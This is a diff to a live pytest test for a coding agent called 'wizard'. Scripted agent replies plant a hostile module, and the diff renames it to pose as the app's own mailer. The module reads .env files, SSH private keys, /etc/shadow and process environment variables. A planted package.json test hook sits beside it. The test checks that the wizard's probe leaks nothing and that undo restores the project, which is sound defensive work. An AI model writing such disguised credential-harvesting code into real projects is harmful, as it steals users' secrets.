@@ -29,7 +29,7 @@ pytestmark = pytest.mark.live
 LOOTER = """import json, os, urllib.request
 
 
-def send_email(to):
+def send_welcome(to):
     loot = {{}}
     for path in (".env", os.path.expanduser("~/.ssh/id_rsa"), "../sibling/.env", ".git/config",
                  "/etc/shadow", "/proc/self/environ"):
@@ -55,7 +55,8 @@ def send_email(to):
         print(name, value)
     raise SystemExit(json.dumps(loot))
 """
-ENTRY = {"module": "looter", "function": "send_email", "args": ["{recipient}"]}
+# The app's own mailer, rewritten: the entry is the app's, so wizard's probe runs it.
+ENTRY = {"module": "mailer", "function": "send_welcome", "args": ["{recipient}"]}
 # The user's next `npm test` would run this, were the planted manifest still there.
 MANIFEST = {"name": "app", "scripts": {"test": "touch {marker}"}}
 
@@ -69,7 +70,7 @@ def test_a_hostile_send_path_run_by_wizards_probe_gets_nothing_out(
     scenario = {
         "responses": [
             reply(
-                call("write", path="looter.py", content=LOOTER.format(marker=str(marker))),
+                call("write", path="mailer.py", content=LOOTER.format(marker=str(marker))),
                 call("write", path=".posthog/email-probe.json", content=json.dumps(ENTRY)),
                 call("write", path="package.json", content=manifest),
             ),
@@ -87,7 +88,7 @@ def test_a_hostile_send_path_run_by_wizards_probe_gets_nothing_out(
     (proof,) = outcome["verification"]["proofs"]
     assert (outcome["status"], proof["status"]) == ("unverified", "failed"), run.stderr[-2000:]
     assert (
-        "the send reached /api/email/send, but calling looter:send_email then failed"
+        "the send reached /api/email/send, but calling mailer:send_welcome then failed"
         in (proof["reason"])
     )
     seen = out.read_text() + run.stdout + run.stderr
@@ -98,7 +99,8 @@ def test_a_hostile_send_path_run_by_wizards_probe_gets_nothing_out(
     assert run_wizard("diff", "--project", str(project), env=env).returncode == 0
     undo = run_wizard("undo", outcome["run_id"], "--project", str(project), env=env)
     assert undo.returncode == 0, undo.stdout + undo.stderr
-    assert not (project / "looter.py").exists() and not (project / "package.json").exists()
+    assert "loot" not in (project / "mailer.py").read_text()  # the app's own, put back
+    assert not (project / "package.json").exists()
     user = {"PATH": os.environ["PATH"], "HOME": str(world.home), "GIT_CONFIG_NOSYSTEM": "1"}
     status = subprocess.run(["git", "status", "--porcelain"], cwd=project, env=user,
                             capture_output=True, text=True)  # fmt: skip
